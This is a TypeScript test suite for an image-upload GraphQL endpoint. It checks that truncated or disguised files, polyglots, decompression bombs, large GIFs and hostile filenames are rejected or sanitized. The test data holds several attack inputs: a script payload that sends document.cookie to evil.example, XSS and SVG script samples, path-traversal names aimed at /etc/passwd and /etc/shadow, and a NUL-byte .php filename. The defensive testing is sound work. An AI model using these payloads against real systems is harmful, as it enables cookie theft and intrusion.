// Issue catalogue, bad files: each gets its error code and leaves no file, scratch file or row behind.
import { randomUUID } from "node:crypto";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { errorCode, stageFile } from "../helpers/graphqlClient.js";
import { animatedGif, fetchImage, gif, jpeg, jpegDeclaring, pngDeclaring } from "../helpers/images.js";
import { rawUpload } from "../helpers/rawUpload.js";
import { startTestServer, type TestServer } from "../helpers/startTestServer.js";

let t: TestServer;
let token: string;

beforeAll(async () => {
  t = await startTestServer();
  token = await t.token("attacker");
});
afterAll(() => t.stop());

async function rowCount(): Promise<number> {
  const row = await t.server.database.knex("images").count<{ n: number | string }[]>({ n: "*" }).first();
  return Number(row?.n ?? 0);
}

async function expectRefused(bytes: Uint8Array, code: string, filename = "photo.jpg") {
  const [files, rows] = [await t.files(), await rowCount()];
  const result = await stageFile(t.graphqlUrl, bytes, { token, filename, contentType: "image/jpeg" });
  expect(errorCode(result)).toBe(code);
  expect(await t.files()).toEqual(files);
  expect(await rowCount()).toBe(rows);
  return result;
}

describe("files that are not images, or not whole ones", () => {
  it("a zero-byte file: BAD_USER_INPUT", async () => {
    await expectRefused(new Uint8Array(0), "BAD_USER_INPUT");
  });

  it("a one-byte file: UNSUPPORTED_MEDIA_TYPE", async () => {
    await expectRefused(Uint8Array.of(0xff), "UNSUPPORTED_MEDIA_TYPE");
  });

  it("a truncated JPEG: UNSUPPORTED_MEDIA_TYPE", async () => {
    const whole = await jpeg(300, 200);
    await expectRefused(whole.subarray(0, Math.floor(whole.length * 0.6)), "UNSUPPORTED_MEDIA_TYPE");
  });

  it("a JPEG with a corrupt body after a valid header: UNSUPPORTED_MEDIA_TYPE", async () => {
    const whole = Buffer.from(await jpeg(300, 200));
    const scan = whole.indexOf(Buffer.from([0xff, 0xda]));
    for (let i = scan + 40; i < whole.length - 2; i += 7) whole[i] = 0xff;
    await expectRefused(whole, "UNSUPPORTED_MEDIA_TYPE");
  });

  it.each([
    ["text", Buffer.from("just some words, nothing to see\n".repeat(40))],
    ["HTML", Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>")],
    ["PDF", Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")],
    ["ZIP", Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0, ...Buffer.alloc(40, 1)])],
    ["ELF", Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...Buffer.alloc(56)])],
  ])("a %s file named photo.jpg and sent as image/jpeg: UNSUPPORTED_MEDIA_TYPE", async (_kind, bytes) => {
    await expectRefused(bytes, "UNSUPPORTED_MEDIA_TYPE");
  });

  it("an SVG (script in an image's clothes): UNSUPPORTED_MEDIA_TYPE", async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(1)</script><rect width="64" height="64"/></svg>';
    await expectRefused(Buffer.from(svg), "UNSUPPORTED_MEDIA_TYPE", "avatar.svg");
  });
});

describe("polyglots", () => {
  it.each([
    ["GIF", () => gif(20, 20)],
    ["JPEG", () => jpeg(20, 20)],
  ])("a valid %s with HTML and script appended is stored as pixels only", async (_kind, make) => {
    const payload = "<html><script>fetch('https://evil.example/'+document.cookie)</script></html>";
    const polyglot = Buffer.concat([await make(), Buffer.from(payload)]);
    const result = await stageFile(t.graphqlUrl, polyglot, { token });
    expect(result.body.errors).toBeUndefined();
    const image = result.body.data!["stageImage"].image;
    for (const url of [image.url, ...image.thumbnails.map((th: { url: string }) => th.url)]) {
      const { response, bytes } = await fetchImage(url);
      expect(bytes.includes(Buffer.from("<script"))).toBe(false);
      expect(bytes.includes(Buffer.from("<html"))).toBe(false);
      expect(response.headers.get("content-type")).toMatch(/^image\//);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });
});

describe("decompression bombs", () => {
  it("a small PNG declaring 50 000 × 50 000 pixels: IMAGE_TOO_LARGE, from its header", async () => {
    const bomb = pngDeclaring(50_000, 50_000);
    expect(bomb.length).toBeLessThan(2000);
    const result = await expectRefused(bomb, "IMAGE_TOO_LARGE", "bomb.png");
    expect(result.body.errors![0]!.message).toContain("50000×50000");
  });

  it("a small JPEG declaring 50 000 × 50 000 pixels: IMAGE_TOO_LARGE, from its header", async () => {
    await expectRefused(await jpegDeclaring(50_000, 50_000), "IMAGE_TOO_LARGE", "bomb.jpg");
  });
});

describe("animations", () => {
  it("a GIF of 3 000 frames is staged from its first frame only", async () => {
    const animation = animatedGif(3000);
    expect((await sharp(animation, { pages: -1 }).metadata()).pages).toBe(3000);
    const result = await stageFile(t.graphqlUrl, animation, { token, filename: "spinner.gif" });
    expect(result.body.errors).toBeUndefined();
    const image = result.body.data!["stageImage"].image;
    expect(image).toMatchObject({ width: 1, height: 1, contentType: "image/png" });
    const { metadata } = await fetchImage(image.url);
    expect(metadata.pages ?? 1).toBe(1);
  });
});

describe("filenames", () => {
  const names: [string, string][] = [
    ["a relative path", "../../etc/passwd"],
    ["an absolute path", "/etc/shadow"],
    ["a Windows path", "C:\\\\Windows\\\\system32\\\\evil.jpg"],
    ["10 000 characters", `${"a".repeat(10_000)}.jpg`],
    ["a right-to-left override", "photo\u202Egpj.exe"],
    ["emoji", "🙂 me at the 🏖️.jpg"],
  ];
  it.each(names)("%s never reaches a path, and is stored sanitized", async (_kind, filename) => {
    const upload = await rawUpload(t.graphqlUrl, await jpeg(16, 16), { token, filename });
    expect(upload.status).toBe(200);
    const staged = upload.body.data.stageImage;
    expect(staged.image.url).toMatch(/\/media\/images\/\d{4}\/\d{2}\/\d{2}\/[0-9a-f-]{36}\.jpg$/);
    const row = await t.server.database.knex("images").where({ id: staged.id }).first();
    const stored: string = row.original_filename;
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what a stored filename must not hold.
    expect(stored).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
    expect(Array.from(stored).length).toBeLessThanOrEqual(255);
    expect(stored.length).toBeGreaterThan(0);
    expect((await t.files()).every((f) => /^media\/images\/\d{4}\/\d{2}\/\d{2}\/[0-9a-f-]{36}\.[\w.]+$/.test(f))).toBe(true);
  });

  it("a NUL byte in the part header is a malformed request: BAD_USER_INPUT, nothing stored", async () => {
    const before = await t.files();
    const upload = await rawUpload(t.graphqlUrl, await jpeg(16, 16), { token, filename: "safe.jpg\u0000.php" });
    expect(upload.status).toBe(400);
    expect(upload.body.errors[0].extensions.code).toBe("BAD_USER_INPUT");
    expect(await t.files()).toEqual(before);
  });

  it("keeps what a person would recognise", async () => {
    const upload = await rawUpload(t.graphqlUrl, await jpeg(16, 16), { token, filename: "🙂 me at the 🏖️.jpg", uploadId: randomUUID() });
    const row = await t.server.database.knex("images").where({ id: upload.body.data.stageImage.id }).first();
    expect(row.original_filename).toBe("🙂 me at the 🏖️.jpg");
  });
});
